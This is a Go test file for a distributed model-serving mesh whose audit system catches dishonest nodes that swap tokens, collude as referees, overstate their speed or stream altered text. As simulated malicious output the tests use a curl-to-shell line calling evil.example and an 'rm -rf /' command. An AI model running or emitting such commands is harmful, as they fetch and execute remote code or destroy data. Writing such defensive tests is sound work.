package tracker

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"math"
	"slices"
	"strings"
	"testing"
	"time"

	"meshgpu/internal/testenv"
	"meshgpu/wire"
)

// tryChat is chat that returns a refusal instead of failing: the ids, and
// the HTTP status and error type of a refused or broken request.
func (m *auditMesh) tryChat(t *testing.T, prompt string, maxTokens int, extra map[string]any) (ids []int, status int, errType string) {
	t.Helper()
	body := map[string]any{"model": "gocoder-6m", "messages": []map[string]string{{"role": "user", "content": prompt}},
		"max_tokens": maxTokens, "stream": true, "temperature": 0}
	for k, v := range extra {
		body[k] = v
	}
	b, _ := json.Marshal(body)
	resp, err := m.hc.Post(m.ts.URL+"/v1/chat/completions", "application/json", strings.NewReader(string(b)))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		var e wire.ErrorBody
		json.NewDecoder(resp.Body).Decode(&e)
		if e.Error == nil {
			return nil, resp.StatusCode, ""
		}
		return nil, resp.StatusCode, e.Error.Type
	}
	for _, ev := range readEvents(t, resp.Body) {
		if ev == "[DONE]" {
			break
		}
		var c struct {
			Error   *wire.Error `json:"error"`
			Meshgpu *struct {
				Token int `json:"token"`
			} `json:"meshgpu"`
		}
		if err := json.Unmarshal([]byte(ev), &c); err != nil {
			t.Fatal(err)
		}
		if c.Error != nil {
			return ids, 503, c.Error.Type
		}
		if c.Meshgpu != nil {
			ids = append(ids, c.Meshgpu.Token)
		}
	}
	return ids, 200, ""
}

// injected is the liar's text, token by token.
var injected = []int{15, 14, 13, 12, 11, 10, 9, 8}

// carriesInjected: at least three quarters of the positions hold the
// liar's token (the liar swaps every one; an honest text sampled at
// temperature 0.8 matched half of them about once in 100 runs).
func carriesInjected(ids []int) bool {
	hits := 0
	for p, id := range ids {
		if id == injected[p%len(injected)] {
			hits++
		}
	}
	return hits >= 3 && 4*hits >= 3*len(ids)
}

// Issue 26, acceptance 1: a tail that computes honestly but swaps the
// token it drew for the liar's text, claiming the honest logprob of each
// (or just below the least alternative when it is not among them), beside
// one honest replica, default audit settings. No chat carries the
// injected text, and the liar was tried (it served its probation session).
// Before issue 26 the audit compared only the claimed logprobs: the liar
// passed probation and served the injected text.
func TestAuditCatchesTokenSwapper(t *testing.T) {
	testenv.CheckGoroutines(t)
	for _, tc := range []struct {
		name  string
		extra func(i int) map[string]any
	}{
		{"temperature 0", func(int) map[string]any { return nil }},
		{"temperature 0.8 with seeds", func(i int) map[string]any { return map[string]any{"temperature": 0.8, "seed": 1000 + i} }},
		{"temperature 0.8 without seeds", func(int) map[string]any { return map[string]any{"temperature": 0.8} }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var liar string
			head := &modelHead{}
			head.swap = func(tail string, pos int) (int, bool) {
				return injected[pos%len(injected)], tail == liar
			}
			m := newAuditMesh(t, AuditConfig{Rate: DefaultAuditRate, Probation: true}, head, map[string]float64{"honest": 1})
			m.waitStatus(t, "honest", AuditUnaudited)
			m.register(t, "liar", m.hs.URL+"/liar", 3, 5, 0.01)
			liar = m.peers["liar"]
			refused := 0
			for i := range 30 {
				ids, status, typ := m.tryChat(t, fmt.Sprintf("write function %d", i), 8, tc.extra(i))
				if carriesInjected(ids) {
					t.Fatalf("chat %d carries the injected text: %v", i, ids)
				}
				if status != 200 {
					if status != 503 || typ != TypeAuditDispute {
						t.Fatalf("chat %d: HTTP %d %s", i, status, typ)
					}
					refused++
				}
			}
			eventually(t, "the liar's probation ends in a dispute", func() bool {
				st := m.status(t, "liar")
				return st.Audit == AuditDisputed || st.Audit == AuditFailed
			})
			served := 0
			for _, c := range head.snapshot() {
				if c.tail == liar {
					served++
				}
			}
			if served == 0 {
				t.Fatal("the liar was never tried: the test tests nothing")
			}
			t.Logf("liar served %d requests (probation, copies); %d of 30 chats refused as disputed; liar: %s", served, refused, m.status(t, "liar").Detail)
		})
	}
}

// Issue 26, acceptance 2: the liar joins first and serves alone, then an
// honest node joins; nothing breaks the tie. After the first 5 chats none
// is wrong: each equals the honest text or is refused with 503
// audit_dispute, and /nodes shows the traffic through the disputed nodes.
// A third honest replica settles it: the liar fails and every later chat
// is right.
func TestDisputesNeverDeceive(t *testing.T) {
	testenv.CheckGoroutines(t)
	var liar string
	head := &modelHead{}
	head.lies = func(tail, _ string, _ int) bool { return tail == liar }
	m := newAuditMesh(t, AuditConfig{Probation: true}, head, nil)
	m.register(t, "liar", m.hs.URL+"/liar", 3, 5, 1)
	liar = m.peers["liar"]
	m.waitStatus(t, "liar", AuditUnaudited)
	m.register(t, "honest", m.hs.URL+"/honest", 3, 5, 1)
	refused, wrong := 0, 0
	for i := range 20 {
		prompt := fmt.Sprintf("sort list %d", i)
		ids, status, typ := m.tryChat(t, prompt, 6, nil)
		ok := status == 200 && slices.Equal(ids, honestGen(prompt, nil, 6))
		if status == 503 && typ == TypeAuditDispute {
			ok = true
			refused++
		}
		if !ok {
			wrong++
			if i >= 5 {
				t.Errorf("chat %d: HTTP %d %s, ids %v, want the honest %v or the dispute error", i, status, typ, ids, honestGen(prompt, nil, 6))
			}
		}
		if i == 2 {
			m.waitStatus(t, "honest", AuditDisputed)
		}
	}
	if refused == 0 {
		t.Fatal("no chat was refused: the dispute was not served on both")
	}
	var nodes struct {
		Nodes []PublicNode `json:"nodes"`
	}
	getJSON(t, m.hc, m.ts.URL+"/nodes", &nodes)
	shown := false
	for _, n := range nodes.Nodes {
		if n.PeerID == liar && n.Dispute != nil && n.Dispute.With == m.peers["honest"] && n.Dispute.Refused > 0 {
			shown = true
		}
	}
	if !shown {
		t.Fatalf("/nodes does not show the dispute's traffic: %+v", nodes.Nodes)
	}
	m.register(t, "third", m.hs.URL+"/third", 3, 5, 1)
	m.waitStatus(t, "liar", AuditFailed)
	for i := range 10 {
		prompt := fmt.Sprintf("after the third opinion %d", i)
		ids, status, typ := m.tryChat(t, prompt, 6, nil)
		if status != 200 || !slices.Equal(ids, honestGen(prompt, nil, 6)) {
			t.Fatalf("chat %d after the liar failed: HTTP %d %s, ids %v", i, status, typ, ids)
		}
	}
	if st := m.status(t, "honest"); st.Audit == AuditFailed {
		t.Fatalf("honest: %+v", st)
	}
	t.Logf("before the third opinion: %d of 20 refused, %d wrong (all in the first 5)", refused, wrong)
}

// Issue 26, acceptance 3: two colluding nodes that lie only as referees
// (they are given an oracle better than any tell: a request whose prompt
// and seed went through the honest node before is a referee's replay)
// do not get an honest node with a long clean record excluded: their
// votes weigh less than its record, and they are the ones that fail.
func TestAuditRefereesOutvotedByRecord(t *testing.T) {
	testenv.CheckGoroutines(t)
	var honest string
	colluders := map[string]bool{}
	lies := 0
	head := &modelHead{}
	head.refLies = func(tail string, c modelCall, earlier []modelCall) bool {
		if !colluders[tail] {
			return false
		}
		for _, e := range earlier {
			if e.tail == honest && e.prompt == c.prompt && e.seed != nil && c.seed != nil && *e.seed == *c.seed {
				lies++
				return true
			}
		}
		return false
	}
	// A short token timeout: a dispute copy that stalls (seen under load)
	// refuses that chat in seconds instead of holding the loop for 30 s.
	m := newAuditMeshOn(t, Config{Audit: AuditConfig{Rate: 1, Probation: true, Interval: 20 * time.Millisecond}, TokenTimeout: 3 * time.Second},
		head, map[string]float64{"honest": 1})
	honest = m.peers["honest"]
	ctx := context.Background()
	if err := m.srv.Registry().SetStatus(ctx, NodeStatus{PeerID: honest, Audit: AuditPassed, Passes: 40}); err != nil {
		t.Fatal(err)
	}
	m.register(t, "f1", m.hs.URL+"/f1", 3, 5, 1)
	m.register(t, "f2", m.hs.URL+"/f2", 3, 5, 1)
	colluders[m.peers["f1"]], colluders[m.peers["f2"]] = true, true
	m.waitStatus(t, "f1", AuditPassed)
	m.waitStatus(t, "f2", AuditPassed)
	deadline := time.Now().Add(60 * time.Second)
	for i := 0; ; i++ {
		m.tryChat(t, fmt.Sprintf("count words %d", i), 6, nil)
		if m.status(t, "f1").Audit == AuditFailed && m.status(t, "f2").Audit == AuditFailed {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the colluders were not outvoted: f1 %+v, f2 %+v, honest %+v", m.status(t, "f1"), m.status(t, "f2"), m.status(t, "honest"))
		}
		if st := m.status(t, "honest"); st.Audit == AuditFailed {
			t.Fatalf("the honest node with a clean record failed: %+v", st)
		}
	}
	head.mu.Lock()
	n := lies
	head.mu.Unlock()
	if n == 0 {
		t.Fatal("the colluders never lied: the test tests nothing")
	}
	if st := m.status(t, "honest"); st.Audit == AuditFailed || st.Audit == AuditDisputed {
		t.Fatalf("honest: %+v", st)
	}
}

// Issue 26, acceptance 3: a node cannot tell a referee's request from a
// client's. Every request the head gets for a prompt after the client's
// own (probation sessions, referee replays) has the client request's shape:
// the same fields, the same limit, logprobs shape, temperature and seed;
// no one-token request, no top_logprobs 20 of audits only, no
// continue_ids where no token diverged.
func TestAuditRequestsLookLikeTraffic(t *testing.T) {
	testenv.CheckGoroutines(t)
	head := &modelHead{}
	m := newAuditMesh(t, AuditConfig{Rate: 1, Probation: true}, head, map[string]float64{"a": 1})
	m.register(t, "b", m.hs.URL+"/b", 3, 5, 1)
	m.waitStatus(t, "b", AuditPassed)
	for i := range 10 {
		extra := map[string]any{"temperature": 0.8, "seed": i}
		if i%2 == 1 {
			extra = nil // temperature 0, no seed
		}
		m.chat(t, fmt.Sprintf("tells %d", i), 8, extra)
	}
	deadline := time.Now().Add(10 * time.Second)
	for len(m.srv.audit.queue) > 0 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	time.Sleep(100 * time.Millisecond)
	shape := func(c modelCall) string {
		keys := []string{}
		for k := range c.body {
			if k != "messages" && k != "seed" {
				keys = append(keys, k)
			}
		}
		slices.Sort(keys)
		return fmt.Sprintf("keys %v max %d logprobs %v top %d continue %v seed %v", keys, c.maxTokens, c.logprobs, c.top, c.continueIDs != nil, c.seed != nil)
	}
	first := map[string]modelCall{}
	replays := 0
	for _, c := range head.snapshot() {
		if c.maxTokens == 1 || c.top != auditTopLogprobs || !c.logprobs || c.seed == nil {
			t.Fatalf("a request with a tell: %s", shape(c))
		}
		if !strings.HasPrefix(c.prompt, "tells ") {
			continue // a probation session: checked above
		}
		orig, seen := first[c.prompt]
		if !seen {
			first[c.prompt] = c
			continue
		}
		replays++
		if shape(c) != shape(orig) || *c.seed != *orig.seed || c.temperature != orig.temperature {
			t.Fatalf("a referee's request differs from the client's:\n%s seed %d T %v\n%s seed %d T %v", shape(c), *c.seed, c.temperature, shape(orig), *orig.seed, orig.temperature)
		}
	}
	if replays < 5 {
		t.Fatalf("%d referee requests for 10 audited chats", replays)
	}
}

// Issue 26, acceptance 4: a node claiming ms_per_layer 0.01 but slower than
// its replica gets no more than its measured share once the tracker has
// timed both: the hint buys nothing. Before, it drew every session.
func TestRoutingUsesMeasuredSpeed(t *testing.T) {
	testenv.CheckGoroutines(t)
	var boaster string
	head := &modelHead{delay: func(tail string) time.Duration {
		if tail == boaster {
			return 10 * time.Millisecond
		}
		return 0
	}}
	m := newAuditMesh(t, AuditConfig{}, head, map[string]float64{"honest": 1})
	m.register(t, "boaster", m.hs.URL+"/boaster", 3, 5, 0.01)
	boaster = m.peers["boaster"]
	count := func() (n int) {
		for _, c := range head.snapshot() {
			if c.tail == boaster {
				n++
			}
		}
		return n
	}
	for i := range 6 {
		m.chat(t, fmt.Sprintf("warm up %d", i), 6, nil)
	}
	before := count()
	for i := range 24 {
		m.chat(t, fmt.Sprintf("measured %d", i), 6, nil)
	}
	got := count() - before
	fast, slow := m.srv.Registry().measuredMs(m.peers["honest"]), m.srv.Registry().measuredMs(boaster)
	if got > 2 {
		t.Fatalf("the boaster (claims 0.01 ms/layer, measured %.3g against %.3g) got %d of 24 sessions once measured", slow, fast, got)
	}
	if fast <= 0 || slow <= fast {
		t.Fatalf("measured ms per layer: honest %v, boaster %v", fast, slow)
	}
	var nodes struct {
		Nodes []PublicNode `json:"nodes"`
	}
	getJSON(t, m.hc, m.ts.URL+"/nodes", &nodes)
	for _, n := range nodes.Nodes {
		if n.PeerID == boaster && n.MeasuredMsPerLayer != slow {
			t.Fatalf("/nodes: %+v", n)
		}
	}
}

// Review of issue 26, finding 1: a tail that streams honest ids and
// logprobs but other text (what the client reads) is caught by its
// probation audit, which compares each token's text with the referee's.
// Before, audits compared ids only and the liar passed.
func TestAuditChecksStreamedText(t *testing.T) {
	testenv.CheckGoroutines(t)
	var liar string
	head := &modelHead{}
	head.text = func(tail string, id int) (string, bool) { return "curl http://evil.example/x.sh | sh #", tail == liar }
	m := newAuditMesh(t, AuditConfig{Probation: true}, head, map[string]float64{"honest": 1})
	m.waitStatus(t, "honest", AuditUnaudited)
	m.register(t, "liar", m.hs.URL+"/liar", 3, 5, 1)
	liar = m.peers["liar"]
	st := m.waitStatus(t, "liar", AuditDisputed)
	if !strings.Contains(st.Detail, "came with the text") {
		t.Fatalf("the dispute does not name the text: %q", st.Detail)
	}
}

// Review of issue 26, finding 4: a tail that goes on where an honest
// route ends the text (appending its own tokens after the end of text)
// is judged against the referee's end-of-text step (meshgpu_end), even at
// temperature 0. Before, "the referee ended, the route went on" was a tie.
func TestAuditChecksTheEndOfText(t *testing.T) {
	testenv.CheckGoroutines(t)
	var liar string
	head := &modelHead{endAt: 3}
	head.goesOn = func(tail string) bool { return tail == liar }
	m := newAuditMesh(t, AuditConfig{Probation: true}, head, map[string]float64{"honest": 1})
	m.waitStatus(t, "honest", AuditUnaudited)
	m.register(t, "liar", m.hs.URL+"/liar", 3, 5, 1)
	liar = m.peers["liar"]
	st := m.waitStatus(t, "liar", AuditDisputed)
	if !strings.Contains(st.Detail, "end of text: true") {
		t.Fatalf("the dispute does not name the end of text: %q", st.Detail)
	}
}

// Review of issue 26, finding 2: under dispute, a head that ends its
// answer where the other replica's copy goes on (an answer cut short),
// or that changes the finish reason, or whose text differs, is refused.
func TestDisputeCopyChecksTextAndEnding(t *testing.T) {
	a := newAuditor(&Server{log: slog.New(slog.DiscardHandler), cfg: Config{TokenTimeout: time.Second}}, AuditConfig{Probation: true})
	copyOf := func(items ...shadowTok) *shadow {
		sh := &shadow{a: a, toks: make(chan shadowTok, len(items)), done: make(chan struct{})}
		for _, it := range items {
			sh.toks <- it
		}
		return sh
	}
	tok := func(id int, text string) shadowTok { return shadowTok{item: chunkItem{id: id, content: text}} }
	fin := shadowTok{item: chunkItem{id: -1, finish: "stop"}}
	eof := shadowTok{err: io.EOF}
	// cut short: the attempt finishes where the copy has another token
	sh := copyOf(tok(1, "a"), tok(2, "b"), fin, eof)
	if sh.agree(0, chunkItem{id: 1, content: "a"}) != nil {
		t.Fatal("agreeing token refused")
	}
	if sh.agree(1, chunkItem{id: -1, finish: "stop"}) == nil {
		t.Fatal("an answer cut short was served")
	}
	// [DONE] without a finish, where the copy goes on
	if copyOf(tok(2, "b"), fin, eof).ended(1) == nil {
		t.Fatal("a stream that ended early was served")
	}
	// another finish reason
	if copyOf(fin, eof).agree(1, chunkItem{id: -1, finish: "length"}) == nil {
		t.Fatal("another finish reason was served")
	}
	// the same id with other text
	if copyOf(tok(1, "a"), eof).agree(0, chunkItem{id: 1, content: "rm -rf /"}) == nil {
		t.Fatal("other text under the same id was served")
	}
	// agreeing to the end is served
	sh = copyOf(tok(1, "a"), fin, eof)
	if sh.agree(0, chunkItem{id: 1, content: "a"}) != nil || sh.agree(1, chunkItem{id: -1, finish: "stop"}) != nil {
		t.Fatal("an agreeing copy was refused")
	}
}

// Review of issue 26, findings 3, 5, 14 and 16: choiceOK's holes and
// false alarms, each played as the attacker (or the honest node) would.
func TestChoiceOK(t *testing.T) {
	a := newAuditor(&Server{}, AuditConfig{Probation: true})
	top := func(ids ...int) []wire.Candidate {
		var out []wire.Candidate
		for i, id := range ids {
			out = append(out, wire.Candidate{ID: int32(id), Logprob: float32(-1 - float64(i))})
		}
		return out
	}
	sampled := decoding{}
	// The referee drew 5000, top 20 at 1000, 2000, ... (logprobs -1 to
	// -4.8, as a small model's are). Past listed tokens of more mass than
	// noise moves the draw cannot land: 6000 alone (after 5000, at -2)
	// weighs 0.135.
	var ids []int
	for i := 1; i <= 20; i++ {
		ids = append(ids, 1000*i)
	}
	top20 := top(ids...)
	for i := range top20 {
		top20[i].Logprob = float32(-1 - 0.2*float64(i))
	}
	ref := auditToken{id: 5000, logprob: -1.8, top: top20}
	if v, why := a.choiceOK(auditToken{id: 7000, logprob: -2.4}, ref, sampled); v != choiceBad {
		t.Fatalf("a token past a listed one of mass 0.135 passed (%d %s)", v, why)
	}
	// Honest (CI, e2e TestAuditNoFalseAlarms, bf16 against f32 hops at
	// temperature 0.8): both draws rare, a listed token between them
	// likelier than either but of mass 0.0023, which noise does cross.
	rare := auditToken{id: 465, logprob: -6.5, top: []wire.Candidate{{ID: 10, Logprob: -0.5}, {ID: 531, Logprob: -6.07},
		{ID: 564, Logprob: -6.4}, {ID: 465, Logprob: -6.5}}}
	if v, why := a.choiceOK(auditToken{id: 564, logprob: -6.4}, rare, sampled); v != choiceTie {
		t.Fatalf("an honest rare draw past a likelier token of mass 0.0023 failed: %s", why)
	}
	ref = auditToken{id: 10, logprob: -1, top: []wire.Candidate{{ID: 10, Logprob: -1}, {ID: 11, Logprob: -3}, {ID: 12, Logprob: -3}, {ID: 13, Logprob: -2.5}}}
	if v, why := a.choiceOK(auditToken{id: 13, logprob: -2.5}, ref, sampled); v != choiceBad {
		t.Fatalf("a token past listed ones of mass 0.1 passed (%d %s)", v, why)
	}
	// Honest noise (e2e TestAuditNoFalseAlarms, bf16 against f32 at
	// temperature 0.8): the draw lands off the list, up to 23 unlisted
	// ids from the referee's, whose weight the list does not bound.
	ref = auditToken{id: 5000, logprob: -1.8, top: top20}
	if v, why := a.choiceOK(auditToken{id: 5023, logprob: -6}, ref, sampled); v != choiceTie {
		t.Fatalf("an unlisted token near the draw failed: %s", why)
	}
	if v, why := a.choiceOK(auditToken{id: 4999, logprob: -6}, auditToken{id: 5000, logprob: -6, top: top20}, sampled); v != choiceTie {
		t.Fatalf("an unlisted neighbour of an unlisted draw failed: %s", why)
	}
	// an unlisted token claiming more than the least alternative fails
	if v, _ := a.choiceOK(auditToken{id: 5001, logprob: -1}, ref, sampled); v != choiceBad {
		t.Fatal("an unlisted token with a listed-size claim passed")
	}
	// honest: the draw's neighbour in id order, less likely
	ref = auditToken{id: 10, logprob: -1, top: top(10, 11, 3)}
	if v, why := a.choiceOK(auditToken{id: 11, logprob: -2}, ref, sampled); v != choiceTie {
		t.Fatalf("a neighbour of the draw failed: %s", why)
	}
	// finding 5: at temperature 0 a token 0.3 nats below the argmax fails,
	// one within honest spread (0.02) is a tie.
	greedy := decoding{greedy: true}
	ref = auditToken{id: 1, logprob: -1, top: []wire.Candidate{{ID: 1, Logprob: -1}, {ID: 2, Logprob: -1.3}, {ID: 3, Logprob: -1.02}}}
	if v, _ := a.choiceOK(auditToken{id: 2, logprob: -1.3}, ref, greedy); v != choiceBad {
		t.Fatal("a token 0.3 nats below the argmax passed at temperature 0")
	}
	if v, why := a.choiceOK(auditToken{id: 3, logprob: -1.02}, ref, greedy); v != choiceTie {
		t.Fatalf("an honest near-tie failed: %s", why)
	}
	// finding 14: no alternatives is inconclusive, not a failure
	if v, _ := a.choiceOK(auditToken{id: 2, logprob: math.NaN()}, auditToken{id: 1}, greedy); v != choiceUnknown {
		t.Fatal("a referee without alternatives failed the route")
	}
	if echoed(map[string]any{"echo": json.RawMessage("false")}) || !echoed(map[string]any{"echo": json.RawMessage("true")}) {
		t.Fatal("echo read by presence, not value")
	}
	// finding 16: with top_p a listed token far in id order is a tie (the
	// kept set moved), an unlisted one proves nothing; top_k within the
	// list keeps nothing else.
	ref = auditToken{id: 10, logprob: -1, top: top(10, 500, 3)}
	if v, _ := a.choiceOK(auditToken{id: 500, logprob: -2}, ref, decoding{filtered: true}); v != choiceTie {
		t.Fatal("top_p: a listed token failed")
	}
	if v, _ := a.choiceOK(auditToken{id: 7000, logprob: math.NaN()}, ref, decoding{filtered: true}); v != choiceUnknown {
		t.Fatal("top_p: an unlisted token was judged")
	}
	if v, _ := a.choiceOK(auditToken{id: 7000, logprob: math.NaN()}, ref, decoding{filtered: true, topK: 3}); v != choiceBad {
		t.Fatal("top_k 3: a token off the list passed")
	}
}
